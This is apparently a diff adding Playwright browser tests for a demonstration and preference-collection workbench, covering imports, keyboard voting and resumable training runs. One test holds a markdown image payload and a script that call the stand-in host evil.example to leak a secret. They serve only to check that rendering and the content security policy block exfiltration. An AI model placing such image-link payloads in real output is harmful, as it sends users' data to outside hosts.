@@ -1,0 +1,146 @@
+"""What people do, in a real browser against a real server; training is a stub that takes seconds."""
+
+from __future__ import annotations
+
+import os
+import re
+import signal
+from pathlib import Path
+
+import psutil
+from playwright.sync_api import Locator, Page, expect
+
+from tests.browser.conftest import Server, Watched, wait_for
+from tests.pages import seeding
+from workbench.workspace import Workspace
+
+
+def give_name(page: Page, name: str) -> None:
+    page.get_by_placeholder("First name and surname").fill(name)
+    page.keyboard.press("Enter")
+    expect(page.get_by_placeholder("First name and surname")).to_have_count(0)
+
+
+def test_a_first_visit_loads_the_demo_company_and_leads_to_sft(server: Server, tab: Watched) -> None:
+    server.start()
+    tab.open(server)
+    tab.page.get_by_role("button", name="Load the demo company").click()
+    expect(tab.page.get_by_text("The demo company is here")).to_be_visible()
+    tab.page.get_by_role("button", name="Go to SFT").click()
+    expect(tab.page.get_by_text(re.compile(r"Learns from \d+ approved demonstrations"))).to_be_visible()
+    assert tab.complaints == []
+    assert tab.outside == []
+    assert server.stop() == 0
+
+
+def test_writing_and_importing_demonstrations(server: Server, tab: Watched, tmp_path: Path) -> None:
+    server.start()
+    page = tab.page
+    tab.open(server, "demonstrations")
+    page.get_by_role("tab", name="Write").click()
+    give_name(page, "Ada")
+    page.get_by_label("Prompt").fill("Where is the gym?")
+    page.get_by_role("button", name="Save demonstration").click()
+    expect(page.get_by_text("The response is empty")).to_be_visible()
+    page.get_by_label("Ideal response").fill("In the basement of the Mill house.")
+    page.get_by_role("button", name="Save demonstration").click()
+    expect(page.get_by_text("Saved to the")).to_be_visible()
+
+    page.get_by_role("tab", name="Import").click()
+    file = tmp_path / "staff.csv"
+    file.write_text("prompt,response\nWhere is A?,In B.\n,no prompt\nWhere is C?,In D.\n", encoding="utf-8")
+    page.locator("input[type=file]").set_input_files(file)
+    expect(page.get_by_text("1 row cannot be taken")).to_be_visible()
+    page.get_by_role("button", name="Import 2 demonstrations").click()
+    expect(page.get_by_text("2 demonstrations imported from staff.csv")).to_be_visible()
+    expect(page.get_by_test_id("stMetricValue").first).to_have_text("3")
+    assert tab.complaints == []
+
+
+def press(page: Page, key: str) -> None:
+    """Press a key on the pair that is shown, and wait until the next pair's buttons are there."""
+    button = page.locator("[class*='st-key-vote_tie_']")
+    shown = next(name for name in (button.get_attribute("class") or "").split() if name.startswith("st-key-vote_tie_"))
+    page.keyboard.press(key)
+    expect(page.locator(f".{shown}")).to_have_count(0)
+    expect(button).to_be_visible()
+
+
+def test_voting_with_the_keyboard_on_hostile_text(server: Server, tab: Watched) -> None:
+    with Workspace.open(server.workspace) as ws:
+        seeding.demonstrations(ws)
+        seeding.pairs(ws, "base", "base", number=3, evil=True)
+    server.start()
+    page = tab.page
+    tab.open(server, "preferences")
+    give_name(page, "Ada")
+    expect(page.get_by_text("0 votes by you, 3 pairs left")).to_be_visible()
+    expect(page.get_by_text("![x](https://evil.example/leak.png?secret=1)")).to_be_visible()
+    assert page.locator("img[src*='evil']").count() == 0
+    press(page, "1")
+    expect(page.get_by_text("1 vote by you, 2 pairs left")).to_be_visible()
+    press(page, "2")
+    expect(page.get_by_text("2 votes by you, 1 pair left")).to_be_visible()
+    press(page, "u")
+    expect(page.get_by_text("1 vote by you, 2 pairs left")).to_be_visible()
+    assert tab.outside == []
+    assert tab.complaints == []
+
+    # Even if some text were rendered one day, the policy lets no picture in from elsewhere.
+    blocked = page.evaluate(
+        """() => new Promise((resolve) => {
+            document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
+            new Image().src = "https://evil.example/leak.png";
+            setTimeout(() => resolve("nothing was blocked"), 5000);
+        })"""
+    )
+    assert blocked == "img-src"
+    server.stop()
+    with Workspace.open(server.workspace) as ws:
+        assert [vote.simulated for vote in ws.votes.live()] == [False]
+
+
+def badge(page: Page, state: str) -> Locator:
+    """The run's state; its icon is text, too."""
+    return page.locator("p", has_text=re.compile(rf"^\w+ ?{state}$"))
+
+
+def worker_pid(workspace: Path) -> int | None:
+    """The stub worker on that workspace."""
+    for process in psutil.process_iter(["cmdline"]):
+        parts = process.info["cmdline"] or []
+        if any(part.endswith("stub_worker.py") for part in parts) and str(workspace) in parts[-1]:
+            return int(process.pid)
+    return None
+
+
+def test_a_run_outlives_its_server_and_an_interrupted_one_resumes(server: Server, tab: Watched) -> None:
+    with Workspace.open(server.workspace) as ws:
+        seeding.demonstrations(ws)
+    server.start()
+    page = tab.page
+    tab.open(server, "sft")
+    page.get_by_role("button", name="Start SFT").click()
+    expect(badge(page, "Running")).to_be_visible()
+    expect(page.get_by_text(re.compile(r"training · \d+% · about"))).to_be_visible()
+    expect(page.locator(".js-plotly-plot").first).to_be_visible()
+    pid = worker_pid(server.workspace)
+    assert pid is not None
+    assert tab.complaints == []
+
+    server.kill()
+    server.start()
+    assert worker_pid(server.workspace) == pid
+    tab.open(server, "sft")
+    expect(badge(page, "Running")).to_be_visible()
+    progress = page.get_by_text(re.compile(r"training · \d+% · about"))
+    before = progress.inner_text()
+    expect(progress).not_to_have_text(before)
+
+    os.kill(pid, signal.SIGKILL)
+    expect(badge(page, "Interrupted")).to_be_visible(timeout=10_000)
+    page.get_by_role("button", name="Resume").click()
+    expect(badge(page, "Running")).to_be_visible()
+    wait_for(lambda: worker_pid(server.workspace) not in (None, pid), 20)
+    page.get_by_role("button", name="Stop").click()
+    expect(badge(page, "Stopped")).to_be_visible()
